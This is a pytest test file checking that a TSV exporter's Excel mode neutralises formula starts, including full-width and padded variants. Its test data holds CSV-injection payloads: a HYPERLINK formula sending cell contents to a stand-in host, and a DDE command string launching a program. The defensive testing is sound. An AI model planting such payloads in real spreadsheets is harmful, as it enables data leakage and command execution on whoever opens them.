"""TSV export with ``--excel``: every formula start OWASP lists (= + - @, full-width and
padded variants) is neutralised; ordinary text and numbers are left alone."""

from __future__ import annotations

import pytest

_FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "- قال المتحدث", "+1+1", "\tx", "\rx", "=1+1", "-"]

@pytest.mark.parametrize("excel", [True, False])
def test_tsv_cells_are_neutralised_for_excel(tmp_path, excel):
    import csv

    from mtjob.export import export_folder
    from mtjob.testing.output_folder import sentence, write_finished

    out = tmp_path / "out"
    write_finished(out, "=cmd", [[sentence(f, f, score=-0.5)] for f in _FORMULAS])
    export_folder(out, "tsv", excel=excel)
    with open(out / "export" / "tsv" / "=cmd.tsv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter="\t"))[1:]
    assert len(rows) == len(_FORMULAS)
    for row, formula in zip(rows, _FORMULAS, strict=True):
        expected = "'" + formula if excel else formula
        assert (row[0], row[3], row[4]) == ("'=cmd" if excel else "=cmd", expected, expected)
        assert row[5] == "-0.5"  # a number stays a number

@pytest.mark.parametrize("text", [
    "\uff1d1+1", "\uff0bcmd", "\uff0d1", "\uff20SUM(1)",  # full-width = + - @
    " =HYPERLINK(\"http://x\")", "\u00a0=1+1", "\u3000=1+1",  # spaces a reader may trim
    "\x00=1+1"])
def test_excel_tsv_neutralises_the_full_width_and_padded_formula_starts(text):
    from mtjob.export.tsv import _cell

    assert _cell(text, True) == "'" + text
    assert _cell(text, False) == text

def test_excel_tsv_leaves_ordinary_text_alone():
    from mtjob.export.tsv import _cell

    for text in ["قال الرئيس", "Hello", " hello", "'quoted", "1,000", "(AFP)"]:
        assert _cell(text, True) == text
